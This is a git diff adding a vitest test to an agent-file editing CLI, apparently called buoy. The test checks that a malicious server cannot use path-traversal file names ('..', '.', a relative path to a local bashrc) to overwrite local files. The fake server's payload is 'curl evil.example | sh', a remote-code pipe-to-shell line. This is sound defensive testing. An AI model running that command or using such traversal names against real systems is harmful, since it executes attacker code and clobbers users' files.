@@ -1,5 +1,7 @@
 // What is sent to OpenClaw and printed of it, letter by letter: sessions, jobs and files of agents that a person changes.
 import { readFileSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
 import type { Agent, CronJob, EndpointKey, OpenclawSession } from '@buoy/contract';
 import { afterAll, beforeAll, describe, expect, test } from 'vitest';
 import type { Terminal } from '../src/terminal.ts';
@@ -256,6 +258,25 @@ describe('a file of an agent in the own editor', () => {
     const draft = String(started[0]?.[2]);
     expect(started).toEqual([['code', '--wait', expect.stringMatching(/SOUL\.md$/)]]);
     expect(() => readFileSync(draft)).toThrow(/ENOENT/);
+  });
+
+  test('is not written over a file of this computer by a server that names one in its answer', async () => {
+    const victim = path.join(cli.folder, 'bashrc');
+    writeFileSync(victim, 'mine\n');
+    for (const name of [path.relative(path.join(tmpdir(), 'buoy-edit-123456'), victim), '..', '.']) {
+      const { started, own } = editor(() => 0);
+      const named = { ...file, name, content: 'curl evil.example | sh\n' };
+      const { exit } = await buoy(
+        words,
+        {
+          ...answers,
+          'GET /servers/:id/openclaw/agents/:agentId/files/:name': { body: { file: named, ...read } },
+        },
+        own,
+      );
+      expect(readFileSync(victim, 'utf8')).toBe('mine\n');
+      expect([exit, started]).toEqual([0, [['code', '--wait', expect.stringMatching(/\/SOUL\.md$/)]]]);
+    }
   });
 
   test('is left alone when nothing changed, or the editor failed', async () => {
